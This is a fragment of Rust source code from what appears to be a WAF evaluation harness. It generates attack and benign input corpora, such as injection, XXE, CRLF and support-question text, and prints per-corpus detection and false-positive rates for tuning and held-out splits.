    corpora.push(("ldap", true, gen(&mut rng, 600, ldap)));
    corpora.push(("nosql", true, gen(&mut rng, 1000, nosql)));
    corpora.push(("template", true, gen(&mut rng, 2000, template)));
    corpora.push(("js-sink", true, gen(&mut rng, 2000, js_sink)));
    corpora.push(("crlf", true, gen(&mut rng, 600, crlf)));
    corpora.push(("mail", true, gen(&mut rng, 600, mail)));
    corpora.push(("xxe", true, gen(&mut rng, 1000, xxe)));
    corpora.push(("graphql", true, gen(&mut rng, 600, graphql)));
    corpora.push(("base64", true, gen(&mut rng, 2000, base64_wrapped)));
    corpora.push((
        "support-questions",
        false,
        gen(&mut rng, 3000, support_question),
    ));
    corpora.push(("documentation", false, documentation_sentences(3000)));
    corpora.push(("docstrings", false, python_docstrings(3000)));
    corpora.push(("lookalikes", false, gen(&mut rng, 3000, lookalike_value)));
    corpora.push(("base64-benign", false, gen(&mut rng, 2000, base64_benign)));

    println!(
        "{:<20} {:>6} {:>8} {:>8}   {:>6} {:>8} {:>8}",
        "corpus", "tune", "query", "form", "held", "query", "form"
    );
    for (name, attack, cases) in &corpora {
        let mut t: BTreeMap<bool, [Tally; 2]> = BTreeMap::new();
        for case in cases {
            let split = held_out(case);
            let verdicts = refused(&wafs, case);
            let entry = t.entry(split).or_default();
            for (i, labels) in verdicts.iter().enumerate() {
                entry[i].cases += 1;
                entry[i].refused += usize::from(!labels.is_empty());
                let wrong = if *attack {
                    labels.is_empty()
                } else {
                    !labels.is_empty()
                };
                let asked = if *attack {
                    show_misses.as_deref() == Some(*name)
                } else {
                    show_fp && split
                };
                if wrong && asked && i == 0 {
                    println!(
                        "  {} {:?} {labels:?}",
                        if *attack { "MISS" } else { "FP" },
                        case
                    );
                }
            }
        }
        let rate = |x: &Tally| {
            if x.cases == 0 {
                0.0
            } else {
                x.refused as f64 / x.cases as f64
            }
        };
        let tune = t.get(&false);
        let held = t.get(&true);
        let fmt = |s: Option<&[Tally; 2]>| match s {
            Some(s) => format!(
                "{:>6} {:>8.3} {:>8.3}",
                s[0].cases,
                rate(&s[0]),
                rate(&s[1])
            ),
            None => format!("{:>6} {:>8} {:>8}", 0, "-", "-"),
        };
        println!(
            "{:<20} {}   {}   ({})",
            name,
            fmt(tune),
            fmt(held),
            if *attack {
                "refused = detected"
            } else {
                "refused = false positive"
            }
        );
    }
}
